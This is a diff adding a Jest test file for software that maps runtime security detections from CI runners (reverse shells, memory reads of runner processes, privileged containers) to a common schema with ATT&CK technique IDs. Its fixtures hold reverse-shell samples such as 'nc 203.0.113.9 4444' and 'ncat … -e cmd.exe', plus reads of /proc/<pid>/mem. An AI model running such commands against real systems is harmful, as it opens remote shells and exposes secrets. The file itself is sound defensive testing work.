@@ -1,0 +1,144 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it, test } from '@jest/globals';
+import type { Json, JsonObject } from '../../src/contracts/types.ts';
+import { loadMappings } from '../../src/mapping/load.ts';
+import { profilesOf } from '../../src/mapping/profiles.ts';
+import { payloadOf, read } from './harness.ts';
+
+const shipped = profilesOf(loadMappings());
+const inputs = (name: string) =>
+  readFileSync(new URL(`./inputs/${name}`, import.meta.url), 'utf8')
+    .trim()
+    .split('\n');
+const bash = { pid: '10', exe: '/usr/bin/bash', arguments: ['bash', 'run.sh'] };
+
+describe('of several processes the one that did it', () => {
+  const [memory = '', container = ''] = inputs('process-order.ndjson');
+
+  it('reads the memory', () => {
+    const { file, process, process_events } = read(memory);
+    expect([file?.path, process?.pid, process?.name]).toEqual(['/proc/1798/mem', 2068, 'python3']);
+    expect(process_events?.map(({ pid }) => pid)).toEqual([10, 2068]);
+  });
+
+  it('starts the container', () => {
+    const detection = read(container);
+    expect(detection.container).toMatchObject({ runtime: 'docker', image_name: 'alpine', image_tags: ['3'] });
+    expect(detection.process?.executable).toBe('/usr/bin/docker');
+  });
+
+  it('connects', () => {
+    const nc = { pid: '11', exe: '/usr/bin/nc', arguments: ['nc', '203.0.113.9', '4444'] };
+    const { endpoint, process } = read(payloadOf('Reverse-Shell', { process_events: [bash, nc] }));
+    expect([endpoint?.ip, endpoint?.port, process?.pid]).toEqual(['203.0.113.9', 4_444, 11]);
+  });
+
+  it('is the first where none shows anything, and reads a container behind sudo', () => {
+    const sudo = { pid: '9', exe: '/usr/bin/sudo', arguments: ['sudo', '-E', 'podman', 'run', 'alpine:3'] };
+    expect(read(payloadOf('Reverse-Shell', { process_events: [bash, bash] })).process?.pid).toBe(10);
+    const alone = read(payloadOf('Privileged-Container', { process_events: [bash, sudo] }));
+    expect(alone.container).toMatchObject({ runtime: 'podman', image_name: 'alpine' });
+    expect(alone.process?.pid).toBe(9);
+  });
+});
+
+describe('arguments begin with the program', () => {
+  const argsOf = (exe: string, ...args: Json[]) =>
+    read(payloadOf('Suspicious-Process-Call', { process_events: [{ exe, arguments: args }] })).process?.args;
+
+  test.each<[string, string[]]>([
+    ['/usr/bin/python3', ['tj.py']],
+    ['/usr/bin/docker', ['run', 'alpine']],
+    ['/bin/nc', ['203.0.113.9', '4444']],
+    ['/usr/bin/curl', ['-s', 'https://a.example']],
+    [String.raw`C:\tools\ncat.exe`, ['203.0.113.9', '4444']],
+  ])('which the agent left out: %s %j', (exe, args) => {
+    expect(argsOf(exe, ...args)).toEqual([exe, ...args]);
+  });
+
+  test.each<[string, string[]]>([
+    ['/usr/bin/docker', ['docker', 'run']],
+    ['/usr/bin/python3.12', ['python3', 'x.py']],
+    ['/usr/bin/nc.openbsd', ['nc', 'h', '1']],
+    ['/usr/bin/dash', ['sh', '-c', 'x']],
+    ['/usr/bin/bash', ['-bash']],
+    ['/usr/bin/mawk', ['awk', '{}']],
+    ['/bin/busybox', ['wget', 'x']],
+    ['/opt/app', ['/opt/app', 'x']],
+    [String.raw`C:\Windows\System32\cmd.exe`, ['cmd', '/c', 'x']],
+    ['powershell.exe', ['PowerShell', '-c', 'x']],
+  ])('which is there by another name: %s %j', (exe, args) => {
+    expect(argsOf(exe, ...args)).toEqual(args);
+  });
+});
+
+describe('command lines', () => {
+  const lineOf = (exe: string, ...args: Json[]) =>
+    read(payloadOf('Reverse-Shell', { process_events: [{ exe, arguments: args }] })).process?.command_line;
+  const cmd = String.raw`C:\a\cmd.exe`;
+
+  test.each<[string, string[], string]>([
+    ['/bin/sh', ['sh', '-c', 'a b', "it's", ''], `sh -c 'a b' 'it'\\''s' ''`],
+    [cmd, ['cmd', '/c', 'a b', "it's", ''], `cmd /c "a b" it's ""`],
+    [
+      cmd,
+      ['cmd', String.raw`D:\a\b`, String.raw`C:\Program Files\x` + '\\'],
+      String.raw`cmd D:\a\b "C:\Program Files\x\\"`,
+    ],
+    [cmd, ['cmd', 'say "hi"', 'a\\"b'], String.raw`cmd "say \"hi\"" "a\\\"b"`],
+  ])('%s %j', (exe, args, line) => {
+    expect(lineOf(exe, ...args)).toBe(line);
+  });
+});
+
+describe('the platform', () => {
+  const on = (id: string, fields: JsonObject) => {
+    const { platform, threat } = read(payloadOf(id, fields), shipped);
+    return [platform, ...(threat?.ids ?? [])];
+  };
+  const running = (exe: string, over: JsonObject = {}) => ({ process_events: [{ exe, ...over }] });
+
+  test.each<[string, JsonObject, (string | undefined)[]]>([
+    ['Reverse-Shell', running('/usr/bin/bash'), [undefined, 'T1059.004']],
+    [
+      'Reverse-Shell',
+      running('/usr/bin/bash', { working_directory: '/home/runner/work/a' }),
+      ['linux', 'T1059.004'],
+    ],
+    [
+      'Reverse-Shell',
+      running('/bin/zsh', { working_directory: '/Users/runner/work/a' }),
+      ['macos', 'T1059.004'],
+    ],
+    [
+      'Reverse-Shell',
+      running(String.raw`C:\tools\ncat.exe`, { arguments: ['ncat', 'h', 'x', '-e', 'cmd.exe'] }),
+      ['windows', 'T1059.003'],
+    ],
+    ['Reverse-Shell', running('powershell.exe'), ['windows', 'T1059.001']],
+    ['Reverse-Shell', running(String.raw`D:\a\tool.exe`), ['windows', 'T1059']],
+    ['Reverse-Shell', {}, [undefined, 'T1059.004']],
+    ['Runner-Worker-Memory-Read', { file: '/proc/1/mem' }, ['linux', 'T1003.007']],
+    ['Runner-Worker-Memory-Read', running('/Users/runner/x'), ['macos', 'T1003']],
+    ['Runner-Worker-Memory-Read', running(String.raw`\\host\share\x`), ['windows', 'T1003']],
+    ['Source-Code-Overwritten', { path: String.raw`D:\a\b\c.js` }, ['windows', 'T1195.002']],
+    ['Source-Code-Overwritten', { path: 'src/c.js' }, [undefined, 'T1195.002']],
+    [
+      'New-Outbound-Network-Call',
+      { endpoint: 'a.example:1', tool: { name: 'curl.exe' } },
+      ['windows', 'T1071'],
+    ],
+    ['New-Outbound-Network-Call', { endpoint: 'a.example:1', tool: { name: 'curl' } }, [undefined, 'T1071']],
+  ])('of %s with %j', (id, fields, expected) => {
+    expect(on(id, fields)).toEqual(expected);
+  });
+
+  it('is Windows in our own inputs, and none of them has a technique of Unix', () => {
+    const found = inputs('synthetic.ndjson')
+      .map((line) => read(line, shipped))
+      .filter(({ platform }) => platform === 'windows');
+    expect(found.map(({ id }) => id)).toEqual(['Runner-Worker-Memory-Read', 'Reverse-Shell']);
+    expect(found.flatMap(({ threat }) => threat?.ids)).toEqual(['T1003', 'T1059.003', 'T1095']);
+    expect(found[1]?.endpoint).toMatchObject({ address: '198.51.100.7', port: 4_444 });
+  });
+});
